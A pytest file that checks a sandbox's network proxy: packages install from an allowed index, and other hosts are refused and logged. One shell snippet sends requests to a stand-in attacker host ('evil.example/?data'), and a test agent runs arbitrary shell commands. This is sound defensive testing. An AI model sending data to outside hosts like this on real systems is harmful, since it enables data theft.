"""Real programs in a real sandbox reach a package index through the proxy, and nothing else."""

import os
import shutil
import subprocess
import sys
from collections.abc import AsyncGenerator
from pathlib import Path
from typing import Any

import pytest

from muster.common.contract import decode, encode
from muster.common.contracts.gateway import ExecInSandbox
from muster.common.contracts.sandbox_log import Finished, Frame, FrameKind, NetworkConnection
from muster.common.contracts.task_spec import Network
from muster.common.faults import InvalidMessage
from tests.support.gateway import Stack
from tests.support.gateway_life import finished, living_stack
from tests.support.package_index import ADDRESS, npm_integrity, package_index
from tests.support.process_agents import write_package

PYTHON = os.path.realpath(sys.executable)
"""The interpreter below the virtual environment, which has pip."""
SHELL_AGENT = """
import subprocess, sys
from muster.agent.base import Agent
from muster.agent.entry import run_agent

class Shell(Agent):
    async def on_message(self, message):
        done = subprocess.run(["/bin/sh", "-c", message.text], capture_output=True, text=True)
        return done.stdout + done.stderr

sys.exit(run_agent(Shell))
"""
FETCH = """python3 - <<'END'
import urllib.request, urllib.error
for url in ("http://%s/simple/tinypkg/", "http://evil.example/?data", "https://evil.example/"):
    try:
        print(urllib.request.urlopen(url, timeout=20).status)
    except (urllib.error.URLError, OSError) as error:
        print(error)
END
"""


@pytest.fixture
async def index() -> AsyncGenerator[str]:
    with package_index() as port:
        yield f"{ADDRESS}:{port}"


@pytest.fixture
async def stack(tmp_path: Path, nats_url: str, index: str) -> AsyncGenerator[Stack]:
    settings = {"MUSTER_EGRESS_ALLOWED": f"{index} other.example", "MUSTER_EGRESS_PRIVATE": index}
    async with living_stack(tmp_path, nats_url, **settings) as made:
        write_package(made.packages, "shell", SHELL_AGENT, modes=["sandbox"])
        yield made


def connections(frames: list[Frame]) -> list[NetworkConnection]:
    return [decode(bytes(frame.body), NetworkConnection) for frame in frames if frame.kind is FrameKind.CONNECTION]


async def output_of(stack: Stack, command: str, **fields: Any) -> tuple[str, list[NetworkConnection]]:
    """Run a shell command as the work of a task; return its output and the connections in the sandbox's log."""
    sandbox = await stack.create(package="shell", objective=command, **fields)
    frames = await stack.until(sandbox.sandbox_id, finished)
    return decode(bytes(frames[-1].body), Finished).summary, connections(frames)


def pip() -> str:
    if subprocess.run([PYTHON, "-m", "pip", "--version"], capture_output=True).returncode:
        pytest.skip("this machine has no pip")
    return f"{PYTHON} -m pip"


async def test_pip_installs_from_an_allowed_index_and_another_host_is_refused_and_recorded(stack: Stack, index: str):
    install = (
        f"{pip()} install -q --disable-pip-version-check --no-cache-dir --target /tmp/t"
        f" --index-url http://{index}/simple --trusted-host {ADDRESS} tinypkg"
        " && PYTHONPATH=/tmp/t python3 -c 'import tinypkg; print(tinypkg.ANSWER, flush=True)'"
    )
    text, made = await output_of(stack, f"{install}; {FETCH % index}env", env={"COLOUR": "blue"})
    assert "from the index" in text
    assert "HTTP Error 403: evil.example:80 is not on the allow-list" in text
    assert "Tunnel connection failed: 403 evil.example:443 is not on the allow-list" in text
    assert "COLOUR=blue" in text
    assert "HTTPS_PROXY=http://127.0.0.1:" in text
    assert "Bearer" not in text
    assert "eyJ" not in text
    allowed = [one for one in made if one.allowed]
    refused = {(one.host, one.port) for one in made if not one.allowed}
    assert {(one.host, f"{one.host}:{one.port}") for one in allowed} == {(ADDRESS, index)}
    assert sum(one.received_bytes for one in allowed) > 500
    assert refused == {("evil.example", 80), ("evil.example", 443)}


@pytest.mark.stress
async def test_command_beside_the_worker_has_the_network_and_the_variables_of_its_task(stack: Stack, index: str):
    sandbox = await stack.create(package="shell", objective="true", env={"COLOUR": "blue"})
    await stack.until(sandbox.sandbox_id, finished)
    run = ExecInSandbox(
        sandbox_id=sandbox.sandbox_id, key="v1", command=f"{FETCH % index}env; ls ../run; kill -9 $$", timeout_s=40
    )
    ran = await stack.bus.request(run, timeout_s=60)
    assert ran.exit_code == 128 + 9
    assert ran.output.splitlines()[0] == "200"
    assert "evil.example:443 is not on the allow-list" in ran.output
    assert "COLOUR=blue" in ran.output
    assert "command-" not in ran.output, "the file with the token is deleted before the command starts"
    assert "eyJ" not in ran.output
    assert await stack.bus.request(run, timeout_s=60) == ran


@pytest.mark.stress
async def test_task_reaches_only_the_hosts_that_it_names_or_nothing(stack: Stack, index: str):
    text, made = await output_of(stack, FETCH % index, network=Network(hosts=["other.example"]))
    assert "200" not in text.splitlines()
    assert index in {f"{one.host}:{one.port}" for one in made if not one.allowed}

    text, made = await output_of(stack, "env", network=Network(mode="none"))
    assert "PROXY" not in text.upper()
    assert made == []
    with pytest.raises(InvalidMessage, match=r"evil\.example"):
        await stack.create(network=Network(hosts=["evil.example"]))


@pytest.mark.stress
async def test_npm_installs_from_an_allowed_registry(stack: Stack, index: str):
    if shutil.which("npm") is None or not Path("/usr/bin/npm").exists():
        pytest.skip("this machine has no npm that a sandbox can read")
    manifest = {"name": "work", "version": "1.0.0", "dependencies": {"tinypkg": "1.0.0"}}
    package = {
        "version": "1.0.0",
        "resolved": f"http://{index}/tinypkg/-/tinypkg-1.0.0.tgz",
        "integrity": npm_integrity(),
    }
    lock = {"name": "work", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": manifest}}
    lock["packages"]["node_modules/tinypkg"] = package  # type: ignore[index]
    command = (
        f"printf '%s' '{encode(manifest).decode()}' > package.json;"
        f" printf '%s' '{encode(lock).decode()}' > package-lock.json;"
        f" npm ci --no-audit --no-fund --registry http://{index}/ 2>&1;"
        " node -e \"console.log(require('tinypkg'))\""
    )
    text, made = await output_of(stack, command)
    assert "from the registry" in text
    assert {f"{one.host}:{one.port}" for one in made if one.allowed} == {index}
